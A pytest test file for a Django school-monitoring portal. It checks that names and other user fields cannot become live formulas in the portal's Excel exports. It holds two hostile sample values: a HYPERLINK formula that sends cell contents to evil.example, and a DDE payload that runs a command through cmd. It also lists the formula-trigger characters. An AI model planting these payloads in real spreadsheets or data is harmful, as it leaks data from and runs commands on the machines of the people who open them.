"""No user text becomes a spreadsheet formula in any export (issue 16, item 2).

A hostile value goes into every name a coordinator or a school can type (school, municipality, curator,
coordinator, director, phone) and every .xlsx the portal produces is opened cell by cell.
"""

import io

import openpyxl
import pytest
from django.urls import reverse

from audit import services as audit
from medk.lib import excel
from monitoring.models import Report
from monitoring.services import readmodel, reports
from schools import exporting
from schools.importing import coordinators, reader
from yearcalendar import services as cal

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(content: bytes, *, shows_hostile: bool = True) -> None:
    texts = []
    for cell in cells(content):
        assert cell.data_type != "f", f"{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), f"{cell.coordinate}: {cell.value!r}"
            texts.append(cell.value)
    # The hostile value is there, as inert text.
    assert any(HOSTILE in t for t in texts) or not shows_hostile


@pytest.fixture
def hostile(cast):
    for school, name in ((cast.school_a, HOSTILE), (cast.school_b, "+" + HOSTILE[1:])):
        school.short_name = name
        school.full_name = name
        school.address = "@SUM(1+1)*cmd|' /C calc'!A0"
        school.save()
    cast.mun_a.name = HOSTILE
    cast.mun_a.save()
    for user in (cast.curator, cast.municipal, cast.director):
        user.last_name = HOSTILE
        user.phone = "+7 900 000-00-00"
        user.position = "-2+3"
        user.save()
    readmodel.indicator_states_rebuild(year=cast.year)  # the dashboards read their rows from it
    return cast


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_one_writer_neutralises_every_formula_trigger(trigger):
    value = trigger + "1+1"
    data = excel.workbook_bytes([(value, [value], [[value, 5, None]])], title_rows={value: [value]})
    texts = [c.value for c in cells(data) if isinstance(c.value, str)]
    assert len(texts) == 3 and all(t.startswith("'") and t[1:].strip() == value.strip() for t in texts)
    assert all(c.data_type != "f" for c in cells(data))


def test_the_region_export_has_no_live_formula_in_any_sheet(hostile, client_for):
    response = client_for(hostile.regional).get(reverse("schools:region_export", args=[hostile.region.pk]))
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content))


def test_the_region_export_still_reads_back_unchanged(hostile):
    content = exporting.region_workbook(region=hostile.region, year=hostile.year).read()
    table = reader.read_table(io.BytesIO(content), coordinators.COLUMNS)
    assert not table.problems
    row = next(r for r in table.rows if r.text("email") == hostile.municipal.email)
    assert row.text("phone") == "+7 900 000-00-00"
    assert row.text("position") == "-2+3"
    assert row.text("name").startswith(HOSTILE)


def test_the_audit_export_has_no_live_formula(hostile, client_for):
    audit.record(actor=hostile.curator, action="export", obj=hostile.school_a, details={"file": HOSTILE})
    response = client_for(hostile.federal).get(reverse("audit:event_export"))
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content))


@pytest.mark.parametrize("name", ["surveys:region_export", "surveys:municipality_export"])
def test_the_risk_profile_exports_have_no_live_formula(hostile, client_for, name):
    pk = hostile.region.pk if name == "surveys:region_export" else hostile.mun_a.pk
    response = client_for(hostile.regional).get(reverse(name, args=[pk]))
    assert response.status_code == 200
    assert_no_formula(response.content)


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("monitoring:dashboard_federal", lambda c: []),
        ("monitoring:dashboard_region", lambda c: [c.region.pk]),
        ("monitoring:dashboard_municipality", lambda c: [c.mun_a.pk]),
        ("monitoring:indicator_schools", lambda c: ["curators"]),
        ("monitoring:indicator_schools_region", lambda c: ["curators", c.region.pk]),
        ("monitoring:indicator_schools_municipality", lambda c: ["curators", c.mun_a.pk]),
    ],
)
def test_the_dashboard_exports_have_no_live_formula(hostile, client_for, name, args):
    cal.calendar_create_default(year=hostile.year)
    response = client_for(hostile.federal).get(reverse(name, args=args(hostile)) + "?format=xlsx&show=all")
    assert response.status_code == 200
    # The federal table lists regions only (their names come from the reference list, not from users).
    assert_no_formula(response.content, shows_hostile=name != "monitoring:dashboard_federal")


@pytest.mark.parametrize("kind", ["region", "federal"])
def test_the_report_workbooks_have_no_live_formula(hostile, settings, tmp_path, kind):
    settings.MEDIA_ROOT = tmp_path
    cal.calendar_create_default(year=hostile.year)
    report = Report.objects.create(
        year=hostile.year,
        requested_by=hostile.federal,
        kind=kind,
        region=hostile.region if kind == "region" else None,
        fmt="xlsx",
    )
    report = reports.report_build(report=report)
    assert report.status == "done"
    with report.file.open("rb") as fh:
        content = fh.read()
    assert_no_formula(content, shows_hostile=kind == "region")
